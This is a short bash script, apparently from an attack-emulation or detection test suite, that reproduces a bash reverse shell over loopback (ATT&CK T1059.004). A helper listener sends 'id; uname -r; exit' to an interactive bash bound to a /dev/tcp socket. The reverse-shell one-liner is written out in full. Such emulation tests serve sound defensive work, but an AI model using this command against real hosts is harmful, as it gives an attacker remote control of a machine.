#!/bin/bash
# A bash reverse shell over loopback (T1059.004): the "attacker" listener (support) sends
# commands, an interactive bash with its input and output on the socket runs them.
. "$(dirname "$0")/../lib.sh"
need python3
support python3 "$(dirname "$0")/../helpers/listener.py" "$PORT" "$WORK/ready" "id; uname -r; exit"
wait_file "$WORK/ready"
bash -i >& "/dev/tcp/127.0.0.1/$PORT" 0>&1 || true
wait "${SUPPORT_PIDS[0]}" || true
